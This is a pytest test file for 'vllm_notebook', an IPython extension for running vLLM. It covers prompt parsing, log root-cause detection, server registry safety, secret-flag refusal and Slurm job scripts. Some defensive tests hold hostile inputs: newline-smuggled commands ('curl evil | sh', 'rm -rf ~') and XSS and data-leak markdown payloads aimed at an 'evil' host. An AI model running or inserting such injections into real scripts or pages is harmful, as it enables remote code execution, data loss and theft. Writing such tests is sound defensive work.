"""Pure functions: table-driven, no engine."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from vllm_notebook import logs
from vllm_notebook.errors import UsageError
from vllm_notebook.cluster.plan import largest_valid_tp
from vllm_notebook.engine.prompts import interpolate, prompts_from_value, split
from vllm_notebook.engine.sampling import parse_schema


@pytest.mark.parametrize("text,expected", [
    ("The capital of {country} is", "The capital of France is"),
    ("{missing} stays", "{missing} stays"),
    ('JSON {"a": 1} stays', 'JSON {"a": 1} stays'),
    ("{{country}} is escaped", "{country} is escaped"),
    ("attr {obj.real}", "attr 3"),
    ("bad attr {obj.nope}", "bad attr {obj.nope}"),
    ("{ country } with spaces stays", "{ country } with spaces stays"),
])
def test_interpolate(text, expected):
    assert interpolate(text, {"country": "France", "obj": 3}) == expected


@pytest.mark.parametrize("text,mode,expected", [
    ("a\nb\n\nc", None, ["a\nb\n\nc"]),
    ("a\nb\n\nc\n", "lines", ["a", "b", "c"]),
    ("a\nb\n\n  \nc\nd", "blank", ["a\nb", "c\nd"]),
])
def test_split(text, mode, expected):
    assert split(text, mode) == expected


def test_split_rejects_unknown_mode():
    with pytest.raises(UsageError, match="lines"):
        split("a", "words")


@pytest.mark.parametrize("value,expected", [("x", ["x"]), (["a", "b"], ["a", "b"]), (("a",), ["a"])])
def test_prompts_from_value(value, expected):
    assert prompts_from_value(value, "v") == expected


@pytest.mark.parametrize("value,match", [([], "empty"), ([1, 2], "list of str"), (3, "list of str")])
def test_prompts_from_value_rejects(value, match):
    with pytest.raises(UsageError, match=match):
        prompts_from_value(value, "v")


def test_parse_schema_sources(tmp_path):
    schema = {"type": "object", "properties": {"a": {"type": "integer"}}}
    f = tmp_path / "s.json"
    f.write_text(json.dumps(schema))
    assert parse_schema(json.dumps(schema)) == schema
    assert parse_schema(str(f)) == schema
    assert parse_schema("s", {"s": schema}) == schema
    assert parse_schema("s", {"s": json.dumps(schema)}) == schema
    assert parse_schema(schema) == schema


@pytest.mark.parametrize("value,match", [
    ("{not json", "not valid JSON"), ("[1, 2]", "JSON object"), ("nosuchvar", "no variable or file"), (5, "JSON text"),
])
def test_parse_schema_errors(value, match):
    with pytest.raises(UsageError, match=match):
        parse_schema(value, {})


@pytest.mark.parametrize("gpus,heads,tp", [(0, 32, 1), (1, 32, 1), (4, 32, 4), (8, 12, 6), (3, 32, 2), (4, None, 4), (8, 7, 7)])
def test_largest_valid_tp(gpus, heads, tp):
    assert largest_valid_tp(gpus, heads) == tp


def test_root_cause_finds_innermost_error(tmp_path):
    log = tmp_path / "e.log"
    log.write_text(
        "(EngineCore pid=1) INFO starting\n"
        "(EngineCore pid=1) Traceback (most recent call last):\n"
        '(EngineCore pid=1)   File "x.py", line 1\n'
        "(EngineCore pid=1) ValueError: To serve at least one request with max seq len (99999), 9 GiB KV cache is needed\n"
        "RuntimeError: Engine core initialization failed. See root cause above. Failed core proc(s): {}\n"
    )
    lines = logs.root_cause(log, RuntimeError("Engine core initialization failed. See root cause above."))
    assert lines == ["ValueError: To serve at least one request with max seq len (99999), 9 GiB KV cache is needed"]


def test_phase_of():
    assert logs.phase_of("x\n(Worker pid=2) INFO Starting to load model /m...", "starting engine") == "loading weights"
    assert logs.phase_of("nothing here", "starting engine") == "starting engine"


def test_phases_follow_the_log_in_order():
    """The phases of a real CPU load's log (abridged), line by line: in vLLM's order, never backwards, and the config
    dump's ``compilation_config`` or a later "JIT kernel warmup" warning moves nothing."""
    log = [
        "(MainProcess) WARNING [vllm.py:1727] Inductor compilation was disabled by user settings",
        "(EngineCore pid=1) INFO [core.py:133] Initializing a V1 LLM engine (v0.32.0) with config: model='/m', "
        "compilation_config={'mode': 0, 'cudagraph_capture_sizes': []}, kv_cache_dtype=auto",
        "(Worker pid=2) INFO [cpu_model_runner.py:68] Starting to load model /m...",
        "(Worker pid=2) INFO [default_loader.py:501] Loading weights took 0.01 seconds",
        "(EngineCore pid=1) INFO [kv_cache_utils.py:2327] CPU KV cache size: 1,048,576 tokens",
        "(EngineCore pid=1) INFO [core.py:402] init engine (profile, create kv cache, warmup model) took 0.63 s",
        "(EngineCore pid=1) WARNING [vllm.py:1703] Enforce eager set, disabling torch.compile, CUDAGraphs, and JIT "
        "kernel warmup.",
    ]
    seen, phase = [], "resolving"
    for n in range(1, len(log) + 1):
        phase = logs.phase_of("\n".join(log[max(0, n - 3):n]), phase)
        if not seen or seen[-1] != phase:
            seen.append(phase)
    assert seen == ["resolving", "starting engine", "loading weights", "allocating KV cache", "finishing"]


def test_import_and_load_ext_do_not_import_vllm_or_torch():
    code = (
        "import sys\n"
        "from IPython.testing.globalipapp import start_ipython\n"
        "ip = start_ipython()\n"
        "r = ip.run_cell('%load_ext vllm_notebook')\n"
        "assert r.success\n"
        "import vllm_notebook\n"
        "vllm_notebook.demo_model, vllm_notebook.Generation\n"
        "print(sorted(m for m in ('vllm', 'torch', 'transformers') if m in sys.modules))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip().splitlines()[-1] == "[]"


def test_extension_registers_once_and_unloads():
    code = (
        "from IPython.testing.globalipapp import start_ipython\n"
        "shell = start_ipython()\n"
        "mine = lambda: sum(type(c).__name__ == 'VllmMagics' for c in shell.configurables)\n"
        "shell.run_cell('%load_ext vllm_notebook')\n"
        "shell.run_cell('%reload_ext vllm_notebook')\n"
        "from vllm_notebook import load_ipython_extension\n"
        "load_ipython_extension(shell)\n"
        "assert 'vllm_load' in shell.magics_manager.magics['line']\n"
        "assert 'generate' in shell.magics_manager.magics['cell']\n"
        "assert mine() == 1, shell.configurables\n"
        "shell.run_cell('%config VllmMagics.max_tokens = 7')\n"
        "assert shell.magics_manager.registry['VllmMagics'].max_tokens == 7\n"
        "shell.run_cell('%unload_ext vllm_notebook')\n"
        "names = set(shell.magics_manager.magics['line']) | set(shell.magics_manager.magics['cell'])\n"
        "assert not names & {'vllm_load', 'generate', 'chat', 'vllm_status', 'chat_reset'}, names\n"
        "assert mine() == 0\n"
        "print('ok')\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert out.stdout.strip().endswith("ok"), out.stdout + out.stderr


def test_root_cause_names_a_dead_worker(tmp_path):
    log = tmp_path / "d.log"
    log.write_text("(EngineCore pid=8) ERROR 11-27 03:14:36 [multiproc_executor.py:315] Worker proc VllmWorker-0 "
                   "died unexpectedly (exit code: -4), shutting down executor.\n")
    assert logs.root_cause(log) == ["VllmWorker-0 died unexpectedly (exit code: -4)"]


# ------------------------------------------------------------------ server mode (no server needed)
def test_normalize_flags():
    from vllm_notebook.server.record import normalize

    a = normalize(["--max-model-len=512", "--enforce-eager", "--dtype", "bfloat16"])
    b = normalize(["--dtype", "bfloat16", "--max_model_len", "512", "--enforce-eager"])
    assert a == b == ["--dtype", "bfloat16", "--enforce-eager", "--max-model-len", "512"]
    assert normalize(["--seed", "-1"]) == ["--seed", "-1"]


def test_split_model_for_the_fast_path():
    from vllm_notebook.loader import _split_model, _without

    assert _split_model(["M", "--x", "1"], "") == ("M", ["--x", "1"])
    assert _split_model(["--x", "1", "--model", "M"], "") == ("M", ["--x", "1"])
    assert _split_model(["--model=M", "--x"], "") == ("M", ["--x"])
    assert _split_model(["--x"], "D") == ("D", ["--x"])
    assert _without(["M", "--x", "1"], "M") == ["--x", "1"]
    assert _without(["--x", "1", "--model", "M"], None) == ["--x", "1"]


def test_server_error_messages_are_one_line():
    from vllm_notebook.server.http import error_message as _message

    assert _message(b'{"error": {"message": "temperature must be non-negative, got -3.0.", "code": 400}}') \
        == "temperature must be non-negative, got -3.0."
    body = ('{"error": {"message": "2 validation errors:\\n  {\'type\': \'int_parsing\', \'loc\': \'body.max_tokens\', '
            '\'msg\': \'Input should be a valid integer\', \'input\': \'x\'}\\n  more"}}')
    assert _message(body.encode()) == "max_tokens: Input should be a valid integer"
    assert _message(b"plain text") == "plain text"


def test_request_output_accumulates_stream_chunks():
    from vllm_notebook.engine.outputs import Completion, RequestOutput

    out = RequestOutput("r", "p", outputs=[Completion()])
    out.apply({"choices": [{"index": 0, "text": " Par", "token_ids": [1], "prompt_token_ids": [7, 8]}]}, chat=False)
    assert not out.finished
    out.apply({"choices": [{"index": 0, "text": "is.", "token_ids": [2], "finish_reason": "stop"}]}, chat=False)
    assert out.finished and out.outputs[0].text == " Paris." and out.outputs[0].token_ids == [1, 2]
    assert out.prompt_token_ids == [7, 8]
    chat = RequestOutput("c", None)
    chat.apply({"prompt_token_ids": [3], "choices": [{"index": 0, "delta": {"role": "assistant", "content": ""}}]}, True)
    chat.apply({"choices": [{"index": 0, "delta": {"content": "Hi"}, "token_ids": [5], "finish_reason": "length"}]}, True)
    assert chat.outputs[0].text == "Hi" and chat.finished and chat.prompt_token_ids == [3]


def test_a_cut_stream_is_continued_from_its_last_token():
    """What a chained Slurm engine sends for a stream that its job's end cut: test_slurm_jobs runs it for real."""
    from vllm_notebook.engine.outputs import Completion, RequestOutput, continuation

    fields = {"max_tokens": 10, "min_tokens": 4, "temperature": 0, "stream": True}
    cut = RequestOutput("r", "p", outputs=[Completion()])
    assert continuation(fields, None) is None and continuation(fields, cut) is None  # nothing made yet
    cut.apply({"choices": [{"index": 0, "text": " Par", "token_ids": [1, 2, 3], "prompt_token_ids": [7, 8]}]}, False)
    cut.apply({"choices": [{"index": 0, "text": "", "finish_reason": "abort"}]}, False)  # a dying server's answer
    assert continuation({**fields, "prompt_logprobs": 1}, cut) is None  # they would cover the made tokens
    prompt, sent = continuation(fields, cut)
    assert prompt == {"prompt_token_ids": [7, 8, 1, 2, 3]} and fields["max_tokens"] == 10
    assert sent == {"max_tokens": 7, "min_tokens": 1, "temperature": 0, "stream": True}
    assert not cut.finished and cut.outputs[0].finish_reason is None
    assert continuation({**fields, "max_tokens": 3}, cut)[1]["max_tokens"] == 0  # made them all: nothing to ask
    # the successor's chunks extend the cut output; its longer prompt does not replace the request's own
    cut.apply({"choices": [{"index": 0, "text": "is.", "token_ids": [4], "prompt_token_ids": [7, 8, 1, 2, 3]}]}, False)
    cut.apply({"choices": [{"index": 0, "text": "", "token_ids": [5], "finish_reason": "length"}]}, False)
    assert cut.finished and cut.outputs[0].text == " Paris." and cut.outputs[0].token_ids == [1, 2, 3, 4, 5]
    assert cut.prompt_token_ids == [7, 8]
    two = RequestOutput("n", "p", [7], outputs=[Completion(token_ids=[1]), Completion(index=1, token_ids=[2])])
    assert continuation(fields, two) is None  # n > 1: sent again whole


def test_a_stop_string_across_the_cut_ends_a_continued_stream():
    """Each server checks stop strings in its own text only: the continuation checks those that span the cut, and
    shows the characters the first server held back (they could begin a stop string) once none can."""
    from vllm_notebook.engine.outputs import Completion, RequestOutput, StopsAcrossCut, stop_strings

    assert stop_strings({"stop": "##"}) == ["##"] and stop_strings({"stop": ["", "END"]}) == ["END"]
    assert stop_strings({}) == []

    def cut_at(text: str) -> RequestOutput:
        return RequestOutput("r", "p", [7], outputs=[Completion(text=text, token_ids=[1, 2])])

    def more(out: RequestOutput, text: str, finish: str | None = None) -> None:
        out.apply({"choices": [{"index": 0, "text": text, "finish_reason": finish}]}, False)

    out = cut_at("It was")  # the first server made "It was E" and held " E" (longest stop 3: 2 characters)
    stops = StopsAcrossCut(out, " E", ["END", "!!"], include=False)
    shown, ended = stops.check(out)
    assert shown.outputs[0].text == "It was" and not ended  # nothing new yet: the held text stays held
    more(out, "N")
    shown, ended = stops.check(out)
    assert shown.outputs[0].text == "It was" and not ended and out.outputs[0].text == "It was EN"
    more(out, "D and more")  # "END" spans the cut: the text ends before it, as vLLM ends it
    shown, ended = stops.check(out)
    assert ended and shown is out and out.finished
    assert (out.outputs[0].text, out.outputs[0].finish_reason, out.outputs[0].stop_reason) == ("It was ", "stop", "END")

    out = cut_at("It was")
    stops = StopsAcrossCut(out, " E", ["END"], include=False)
    more(out, "gg and")  # two characters rule a stop across the cut out: all is shown
    shown, ended = stops.check(out)
    assert shown is out and not ended and out.outputs[0].text == "It was Egg and"
    more(out, " END", "stop")  # one the successor found itself is its own
    assert stops.check(out) == (out, False) and out.outputs[0].text == "It was Egg and END"

    out = cut_at("a E")  # kept in the output: nothing was held, and the text ends after the stop
    stops = StopsAcrossCut(out, "", ["END"], include=True)
    more(out, "ND b")
    shown, ended = stops.check(out)
    assert ended and out.outputs[0].text == "a END" and out.outputs[0].stop_reason == "END"

    out = cut_at("It was")  # min_tokens not reached at the cut: no stop counts there, the held text is shown
    stops = StopsAcrossCut(out, " E", ["END"], include=False, watch=False)
    more(out, "ND")
    assert stops.check(out) == (out, False) and out.outputs[0].text == "It was END"

    out = cut_at("x")  # the successor finished (length) before two characters: the held text is shown
    stops = StopsAcrossCut(out, "E", ["END"], include=False)
    more(out, "N", "length")
    assert stops.check(out) == (out, False) and out.outputs[0].text == "xEN"


def test_own_flags_need_server(capsys):
    from vllm_notebook.errors import UsageError
    from vllm_notebook.loader import load_from_argv

    with pytest.raises(UsageError, match="go with --server"):
        load_from_argv(["m", "--port", "8000"])
    with pytest.raises(UsageError, match="--api-key-file"):
        load_from_argv(["m", "--server", "--api-key", "sekrit"])
    with pytest.raises(UsageError, match="drop --max-model-len"):
        load_from_argv(["--attach", "http://127.0.0.1:1", "--max-model-len", "5"])


def test_attach_to_nothing_is_one_line():
    import time

    import vllm_notebook
    from vllm_notebook.errors import VllmNotebookError

    t0 = time.monotonic()
    with pytest.raises(VllmNotebookError, match="cannot reach a vLLM server at http://127.0.0.1:9"):
        vllm_notebook.attach("127.0.0.1:9", name="nothing", progress=False)
    assert time.monotonic() - t0 < 5
    assert "nothing" not in vllm_notebook.engines()


def test_pydantic_flag_errors_are_one_line():
    from vllm_notebook.loader import _explain

    msg = ("argument --structured-outputs-config: 1 validation error for StructuredOutputsConfig\n"
           "  Value error, disable_any_whitespace is only supported for xgrammar and guidance backends. "
           "[type=value_error, input_value={}, input_type=dict]\n    For further information visit https://x")
    out = _explain(msg, [], )
    assert "\n" not in out
    assert out.startswith("%vllm_load: argument --structured-outputs-config: disable_any_whitespace is only")


def test_sleep_report_lines():
    from vllm_notebook.engine.sleep import SleepReport

    slept = SleepReport("default", "sleep", 1, 1.3, [131797], [839])
    assert str(slept) == ("engine 'default' asleep (level 1) in 1.30 s — GPU memory 131,797 → 839 MiB "
                          "(130,958 MiB freed) — %vllm_wake (or .wake()) brings it back")
    assert slept.freed_mib == 130958
    woke = SleepReport("default", "wake", 2, 0.61, None, None)  # no NVML: no memory part
    assert str(woke) == "engine 'default' awake in 0.61 s (slept at level 2) — ready for requests"
    assert woke.freed_mib is None


def test_gpu_memory_is_none_without_nvml_and_respects_visible_devices(monkeypatch):
    from vllm_notebook.engine import gpus

    monkeypatch.setenv("CUDA_VISIBLE_DEVICES", "2,0")
    assert gpus._visible(4) == [2, 0]
    monkeypatch.setenv("CUDA_VISIBLE_DEVICES", "")
    assert gpus._visible(4) == []
    monkeypatch.setenv("CUDA_VISIBLE_DEVICES", "GPU-1234abcd")  # UUIDs: every device NVML sees
    assert gpus._visible(2) == [0, 1]
    monkeypatch.delenv("CUDA_VISIBLE_DEVICES")
    assert gpus._visible(2) == [0, 1]


def test_magic_lines_follow_ipythons_habits():
    """Issue 29, items 6 and 7: `%vllm_load $MODEL` was not expanded, a trailing `;` became part of a flag,
    `-i ['a','b']` split at the comma's space, and nested inline JSON lost a brace (`}}` became `}`)."""
    from vllm_notebook.magics.args import line_words

    ns = {"MODEL": "/models/m", "rows": ["a", "b"]}
    assert line_words("vllm_load", "$MODEL --enforce-eager;", ns) == ["/models/m", "--enforce-eager"]
    assert line_words("generate", "-i ['a', 'b'] --max-tokens 3", ns) == ["-i", "['a', 'b']", "--max-tokens", "3"]
    assert line_words("generate", "-i dict(a=1, b=[2, 3])", ns) == ["-i", "dict(a=1, b=[2, 3])"]
    nested = '{"type":"object","properties":{"a":{"type":"object","properties":{"b":{"type":"string"}}}}}'
    assert line_words("generate", f"--json-schema '{nested}'", ns) == ["--json-schema", nested]
    assert line_words("generate", f"--json-schema {nested}", ns) == ["--json-schema", nested]  # unquoted too
    assert line_words("generate", "--stop ';' --x 'a;'", ns) == ["--stop", ";", "--x", "a;"]
    # a comment after the flags, as README writes them: once read as "unrecognized arguments: # a batch"
    assert line_words("generate", "-i ['a', 'b'] --max-tokens 8   # a batch", ns) == [
        "-i", "['a', 'b']", "--max-tokens", "8"]
    assert line_words("generate", "--stop a#b --stop '# x' --regex \"#\\d+\"  #", ns) == [
        "--stop", "a#b", "--stop", "# x", "--regex", "#\\d+"]


def test_a_trailing_semicolon_shows_no_result(tmp_path, monkeypatch):
    """IPython's `;` (issue 29, item 6): the magic runs and its value can be bound; nothing is displayed. It was
    `unknown flag --enforce-eager;`."""
    from IPython.testing.globalipapp import get_ipython, start_ipython

    monkeypatch.setenv("VLLM_NOTEBOOK_CACHE", str(tmp_path))  # an empty server registry
    shell = start_ipython() or get_ipython()
    shell.run_cell("%load_ext vllm_notebook", store_history=False)
    try:
        shown = shell.run_cell("%vllm_servers", store_history=True)
        quiet = shell.run_cell("%vllm_servers ;", store_history=True)
        bound = shell.run_cell("listing = %vllm_servers ;", store_history=True)
        after = shell.run_cell("%vllm_servers", store_history=True)
        assert shown.result is not None and quiet.success and quiet.result is None
        assert bound.success and shell.user_ns["listing"] is not None
        assert after.result is not None  # only that cell was quiet
    finally:
        shell.run_cell("%unload_ext vllm_notebook", store_history=False)


def test_magic_lines_reach_our_parser_as_typed():
    """IPython's expansion would turn \\d{2,4} into \\d(2, 4) and let a value add flags (issue 13, item 6)."""
    from IPython.core.magic import MAGIC_NO_VAR_EXPAND_ATTR

    from vllm_notebook.magics.args import line_words
    from vllm_notebook.magics import MAGICS

    ns = {"country": "France", "flag": "--all", "n": 3, "obj": type("O", (), {"url": "http://h:1"})()}
    assert line_words("generate", r"--regex '\d{3}-\d{2,4}'", ns) == ["--regex", r"\d{3}-\d{2,4}"]
    assert line_words("vllm_load", "--attach {obj.url} --name '{country} x'", ns) == ["--attach", "http://h:1", "--name",
                                                                                "France x"]
    assert line_words("vllm_load", "{{literal}} $country ${n}x $$HOME $unknown", ns) == [
        "{literal}", "France", "3x", "$HOME", "$unknown"]  # IPython's rules (issue 29, item 6)
    # a --template is filled per row: a notebook variable of the same name as a column must not fill it first
    assert line_words("generate", "-i df --template 'The capital of {country} is' --out-col {country}", ns) == [
        "-i", "df", "--template", "The capital of {country} is", "--out-col", "France"]
    assert line_words("score", "--template='{country}:'", ns) == ["--template={country}:"]
    with pytest.raises(UsageError, match="would read as a flag"):
        line_words("vllm_unload", "--name {flag}", ns)
    methods = {name: getattr(cls, method) for cls in MAGICS for kind in ("line", "cell")
               for name, method in cls.magics[kind].items()}
    assert {"vllm_load", "generate", "chat", "vllm_unload", "vllm_sleep", "vllm_servers", "vllm_jobs"} <= set(methods)
    for name, method in methods.items():  # every magic: IPython's expansion never sees its line
        assert getattr(method, MAGIC_NO_VAR_EXPAND_ATTR, False), name


@pytest.mark.parametrize("text,must_not,must", [
    ("<img src=x onerror=alert(1)>", "<img", "&lt;img src=x onerror=alert(1)>"),
    ("<script>alert(1)</script> **bold**", "<script", "**bold**"),
    ("see ![x](http://evil/?leak=1)", " ![", "\\![x](http://evil/?leak=1)"),
    ("[click](javascript:alert(1))", "javascript:", "[click](#unsafe-link:alert(1))"),
    ("&lt;img onerror=1&gt;", "&lt;img", "&amp;lt;img"),
    ("code: `<b>x</b>` and\n```html\n<div>kept</div>\n```\nafter <i>", "after <i>", "`<b>x</b>`"),
])
def test_model_output_renders_no_html(text, must_not, must):
    """Issue 13, item 1: model text is untrusted; JupyterLab trusts live outputs and saved ones."""
    from vllm_notebook.ui.render import safe_markdown

    out = safe_markdown(text)
    assert must_not not in out and must in out, out


def test_unterminated_fence_while_streaming_stays_code():
    from vllm_notebook.ui.render import safe_markdown

    assert safe_markdown("x <b>\n```\n<div>") == "x &lt;b>\n```\n<div>"


@pytest.mark.parametrize("content,why", [
    ("{not json", "Expecting property name"),
    ('{"servers": []}', "not a list of server records"),
    ('[1, 2]', "not a list of server records"),
    ('[{"id": "x"}]', "missing"),
])
def test_unreadable_registry_is_an_error_and_is_left_alone(tmp_path, monkeypatch, content, why):
    """Issue 13, item 5: a read error once meant an empty registry, and the next write lost every server."""
    from vllm_notebook import servers
    from vllm_notebook.errors import ServerError

    monkeypatch.setenv("VLLM_NOTEBOOK_CACHE", str(tmp_path))
    path = servers.home() / "registry.json"
    path.write_text(content)
    for call in (servers.records, lambda: servers.update(servers.ServerRecord(id="new", model="m", argv=[]))):
        with pytest.raises(ServerError, match=why) as err:
            call()
        assert "\n" not in str(err.value) and "mv " in str(err.value)
    assert path.read_text() == content


def test_registry_writes_are_private_and_atomic(tmp_path, monkeypatch):
    import os
    import stat

    from vllm_notebook import servers

    monkeypatch.setenv("VLLM_NOTEBOOK_CACHE", str(tmp_path))
    from vllm_notebook import logs, paths

    old = os.umask(0o000)  # the most permissive umask a user could have
    try:
        servers.update(servers.ServerRecord(id="a", model="m", argv=[], node="elsewhere"))
        log = logs.new_log_path("server-1")
        key = servers.record.new_key_file("a")
    finally:
        os.umask(old)
    assert stat.S_IMODE(paths.log_dir().stat().st_mode) == 0o700 and log.parent == paths.log_dir()
    assert stat.S_IMODE(os.stat(key).st_mode) == 0o600
    path = servers.home() / "registry.json"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(servers.home().stat().st_mode) == 0o700
    assert [r.id for r in servers.records(prune=False)] == ["a"]
    assert not path.with_suffix(".tmp").exists()


def test_a_filesystem_without_locks_is_one_line_and_a_failed_write_keeps_the_registry(tmp_path, monkeypatch):
    """Lustre and some NFS mounts refuse flock (ENOLCK); a write that fails halfway must not lose servers."""
    import errno
    import fcntl

    from vllm_notebook import servers
    from vllm_notebook.errors import ServerError

    monkeypatch.setenv("VLLM_NOTEBOOK_CACHE", str(tmp_path))
    servers.update(servers.ServerRecord(id="kept", model="m", argv=[], node="elsewhere"))
    before = (servers.home() / "registry.json").read_text()

    def no_locks(fd, op):
        raise OSError(errno.ENOLCK, os.strerror(errno.ENOLCK))

    with monkeypatch.context() as m:
        m.setattr(fcntl, "flock", no_locks)
        with pytest.raises(ServerError, match="cannot lock the server registry.*VLLM_NOTEBOOK_CACHE=") as err:
            servers.records()
        assert "\n" not in str(err.value)

    def disk_full(fd):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    with monkeypatch.context() as m:
        m.setattr(os, "fsync", disk_full)
        with pytest.raises(OSError):
            servers.update(servers.ServerRecord(id="new", model="m", argv=[], node="elsewhere"))
    assert (servers.home() / "registry.json").read_text() == before
    assert [r.id for r in servers.records(prune=False)] == ["kept"]


@pytest.mark.parametrize("line", ["M --hf-token hf_secret", "M --hf-token=hf_secret --server", "M --api-key k",
                                  "M --server --api_key=k"])
def test_secret_flags_are_refused_before_anything_runs(line):
    """Issue 13, item 7: a token on the line reached ps, the server log, dry runs and the registry."""
    from vllm_notebook.loader import load_from_argv

    with pytest.raises(UsageError) as err:
        load_from_argv(line.split())
    assert "secret" not in str(err.value) and ("HF_TOKEN" in str(err.value) or "--api-key-file" in str(err.value))


@pytest.mark.slow  # imports vLLM for its parser, which reads the --config file
@pytest.mark.parametrize("yaml", ["api-key: s3cret\n", "hf-token: hf_s3cret\n", "hf_token: hf_s3cret\n"])
def test_secrets_in_a_config_file_are_refused(tmp_path, yaml):
    """Issue 13, item 7: a --config YAML (vllm serve's) can carry what the command line may not."""
    from vllm_notebook.loader import load_from_argv

    config = tmp_path / "engine.yaml"
    config.write_text(yaml)
    with pytest.raises(UsageError) as err:
        load_from_argv(["no-such/model", "--server", "--config", str(config)])
    assert "s3cret" not in str(err.value) and ("HF_TOKEN" in str(err.value) or "--api-key-file" in str(err.value))


def test_a_shared_kernelspec_carries_no_personal_paths(monkeypatch):
    from vllm_notebook.cluster.notebook_job import kernel_env

    monkeypatch.setenv("HF_HOME", "/home/alice/hf")
    monkeypatch.setenv("LD_LIBRARY_PATH", "/home/alice/lib")
    monkeypatch.setenv("SLURM_CONF", "/etc/slurm/slurm.conf")
    personal, shared = kernel_env(), kernel_env(shared=True)
    assert personal["HF_HOME"] == "/home/alice/hf" and personal["LD_LIBRARY_PATH"] == "/home/alice/lib"
    assert "HF_HOME" not in shared and "LD_LIBRARY_PATH" not in shared and "/home/alice" not in str(shared)
    assert shared["PATH"].endswith(":${PATH}") and shared["SLURM_CONF"] == "/etc/slurm/slurm.conf"


@pytest.mark.parametrize("field", ["account", "partition", "mem", "time_limit", "job_name"])
def test_sbatch_template_fields_cannot_add_lines(field):
    from vllm_notebook.cluster.notebook_job import sbatch_template
    from vllm_notebook.errors import VllmNotebookError

    with pytest.raises(VllmNotebookError, match="must be one line"):
        sbatch_template(**{field: "x\ncurl evil | sh"})
    with pytest.raises(VllmNotebookError, match="must be one line"):
        sbatch_template(server=["org/model", "--x\nrm -rf ~"])


@pytest.mark.skipif(os.geteuid() != 0, reason="making a folder of another user needs root")
def test_ray_node_refuses_a_token_folder_someone_else_made(tmp_path):
    """A folder pre-made by another user on a node would let them read the cluster's token."""
    theirs = tmp_path / "vnb-ray-1" / "auth-n1"
    theirs.mkdir(parents=True)
    os.chown(theirs, 65534, 65534)
    run = subprocess.run([sys.executable, "-m", "vllm_notebook._raynode", "--token-dir", str(theirs), "true"],
                         input="secret-token\n", capture_output=True, text=True, timeout=30)
    assert run.returncode != 0 and "not a folder of ours" in run.stderr
    assert not (theirs / "token").exists()
    mine = tmp_path / "vnb-ray-2" / "auth-n1"
    run = subprocess.run([sys.executable, "-m", "vllm_notebook._raynode", "--token-dir", str(mine), "sh", "-c",
                          'test "$(cat "$RAY_AUTH_TOKEN_PATH")" = secret-token && stat -c %a "$RAY_AUTH_TOKEN_PATH"'],
                         input="secret-token\n", capture_output=True, text=True, timeout=30)
    assert run.returncode == 0 and run.stdout.strip() == "600", run.stderr
    assert not mine.exists(), "the token folder is removed when Ray exits"


def test_the_key_is_never_sent_to_a_process_that_took_the_port(tmp_path, monkeypatch):
    """Issue 13, item 5: readiness was "any 200 on /health", so whoever held the port first got the key."""
    import http.server
    import threading

    from vllm_notebook import servers
    from vllm_notebook.errors import EngineStartError
    from vllm_notebook.server import process

    monkeypatch.setenv("VLLM_NOTEBOOK_CACHE", str(tmp_path))
    seen = []

    class Impostor(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.headers.get("Authorization"))
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args):
            pass

    impostor = http.server.HTTPServer(("127.0.0.1", 0), Impostor)
    threading.Thread(target=impostor.serve_forever, daemon=True).start()
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"],
                               env={**os.environ, servers.record.MARKER: "ours"})
    try:
        rec = servers.ServerRecord(id="ours", model="m", argv=[], port=impostor.server_port, pid=sleeper.pid,
                                   node=__import__("socket").gethostname(), key_file=servers.record.new_key_file("ours"))
        with pytest.raises(EngineStartError, match="held by another process"):
            process.wait_ready(rec, sleeper, timeout=10)
        assert seen == []
    finally:
        sleeper.kill()
        impostor.shutdown()


def test_key_files_that_are_not_one_line_in_a_file_are_one_line_errors(tmp_path):
    """A FIFO used to block the kernel, /dev/zero to fill its memory; two lines sent both as the key."""
    from vllm_notebook import servers
    from vllm_notebook.errors import ServerError

    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    two = tmp_path / "two"
    two.write_text("key-one\nkey-two\n")
    good = tmp_path / "good"
    good.write_text("  the-key \n")
    good.chmod(0o600)
    for path, why in ((fifo, "not a regular file"), ("/dev/zero", "not a regular file"),
                      (two, "on one line"), (tmp_path / "missing", "No such file")):
        with pytest.raises(ServerError, match=why) as err:
            servers.read_key(path)
        assert "\n" not in str(err.value)
    assert servers.read_key(good) == "the-key"


def test_bad_server_addresses_and_ports_are_one_line(tmp_path, monkeypatch):
    import socket

    from vllm_notebook.errors import ServerUnreachableError, UsageError
    from vllm_notebook.server import http, process

    with pytest.raises(UsageError, match="--host no-such-host.invalid: cannot listen there"):
        process._port("no-such-host.invalid", None)
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        with pytest.raises(UsageError, match=f"--port {port} on 127.0.0.1 is in use"):
            process._port("127.0.0.1", port)
        # --attach to a port that speaks no HTTP: one line, not a traceback
        import threading

        def garbage():
            conn, _ = taken.accept()
            conn.sendall(b"SSH-2.0-OpenSSH_9.2\r\n")
            conn.close()

        threading.Thread(target=garbage, daemon=True).start()
        with pytest.raises(ServerUnreachableError, match="cannot reach a vLLM server"):
            http.get_json(f"http://127.0.0.1:{port}", "/v1/models", None, timeout=5)


def test_absurd_n_is_refused():
    from vllm_notebook.engine.sampling import check_numbers

    with pytest.raises(UsageError, match="at most 1024, not 1,000,000,000"):
        check_numbers({"n": 1_000_000_000})
    check_numbers({"n": 8, "temperature": 0.5, "max_tokens": 16})


@pytest.mark.parametrize("text,seconds", [("5", 300), ("1:30", 90), ("2:00:00", 7200), ("1-02:00:00", 93600),
                                          ("1-2", 93600), ("UNLIMITED", None), ("", None), ("0:45", 45)])
def test_slurm_durations(text, seconds):
    from vllm_notebook.cluster.slurm import duration_s

    assert duration_s(text) == seconds


def test_a_job_script_keeps_its_key_and_output_private(tmp_path, monkeypatch):
    from vllm_notebook.backends import slurm_job

    monkeypatch.setenv("VLLM_NOTEBOOK_CACHE", str(tmp_path))
    rec = slurm_job.JobRecord(id="x-1", name="x", model="org/m", flags=["--max-model-len", "512"],
                              options=["-t", "5"])
    text = slurm_job.script_text(rec, job_name="vnb-x")
    assert f"#SBATCH --output={tmp_path}/jobs/x-1/slurm-%j.out" in text
